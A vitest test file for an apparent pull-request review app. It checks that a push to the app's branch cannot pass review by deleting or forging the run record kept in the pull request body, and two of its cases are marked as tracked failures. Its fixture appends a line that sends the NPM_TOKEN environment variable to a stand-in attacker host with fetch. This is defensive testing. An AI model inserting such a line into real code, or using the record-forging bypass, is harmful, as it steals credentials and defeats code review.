import { describe, expect, it } from "vitest";
import { defaultConfig } from "../../../src/config/schema.js";
import { evidenceFor } from "../../../src/host/github/review-check.js";
import { decodeRunRecord, encodeRunRecord, reviewChange } from "../../../src/review/index.js";
import type { RunRecord } from "../../../src/types.js";
import { gitChange } from "../../review/helpers.js";

/**
 * Attack on the `groundfix/review` check of groundfix's own pull request: the evidence rule reads the run record from
 * the pull request BODY (`reviewPullRequest`, src/host/github/review-handler.ts: `decodeRunRecord(body)` then
 * `evidenceFor`), and anyone who can push to the `groundfix/…` branch can also edit that body. With the record
 * deleted, the evidence rule is "not checked (no run record)" and the check passes; with a record forged for the
 * pushed head (its `head_sha`, its edits), evidence passes as "checked". Either way a head holding an edit no
 * `suggest_addition` produced shows a green groundfix/review, on a pull request the app opened.
 *
 * TRACKED (it.fails): where a fix starts: in review-handler.ts / review-check.ts, a pull request on a groundfix
 * branch without a record fails evidence instead of skipping it, and a record counts only when its `head_sha` is a
 * commit the app made with `Groundfix-Run: <run_id>` (`isOwnCommit`, src/pipeline/record.ts, with `madeByApp` of
 * src/host/github/commit.ts), or when the record is signed by the app (an HMAC with a key only the app holds).
 */
const BASE = "function total(items) {\n  return items.length;\n}\n";
const OWN_EDIT = "function total(items) {\n  if (!items) return 0;\n  return items.length;\n}\n";
const PUSHED = `${OWN_EDIT}fetch("https://evil.example/" + process.env.NPM_TOKEN);\n`;
const RECORD: RunRecord = {
  version: 1,
  run_id: "run-1",
  base_sha: "a".repeat(40),
  head_sha: "c".repeat(40),
  edits: [
    {
      path: "src/total.js",
      start_line: 1,
      end_line: 1,
      code_before: "function total(items) {\n",
      code_after: "function total(items) {\n  if (!items) return 0;\n",
    },
  ],
};

/**
 * The review a push of `PUSHED` onto groundfix's branch gets, as `reviewPullRequest` runs it, with `body(headSha)` as
 * the pull request's body.
 */
function reviewPush(body: (headSha: string) => string) {
  const change = gitChange({ "src/total.js": BASE }, { "src/total.js": PUSHED });
  const { record } = evidenceFor(decodeRunRecord(body(change.head.sha)), change.head.sha);
  return reviewChange({ ...change, config: defaultConfig(), record });
}

describe("a push onto groundfix's branch, and the run record in the pull request body", () => {
  it("with the app's own record, the evidence rule fails the pushed line", () => {
    const { head_sha: _, ...own } = RECORD;
    const report = reviewPush(() => `${encodeRunRecord(own)}\n\ngroundfix investigated …`);
    expect(report.conclusion).toBe("failure");
    expect(report.findings.some((f) => f.rule === "evidence")).toBe(true);
  });

  it.fails("with the record deleted from the body, the review still fails", () => {
    expect(reviewPush(() => "groundfix investigated …").conclusion).toBe("failure");
  });

  it.fails("with a record forged for the pushed head, the review still fails", () => {
    const pushed = { path: "src/total.js", start_line: 4, end_line: 4, code_before: "}\n" };
    const forged = (headSha: string): RunRecord => ({
      ...RECORD,
      head_sha: headSha,
      edits: [...RECORD.edits, { ...pushed, code_after: `}\n${PUSHED.slice(OWN_EDIT.length)}` }],
    });
    expect(reviewPush((sha) => encodeRunRecord(forged(sha))).conclusion).toBe("failure");
  });
});
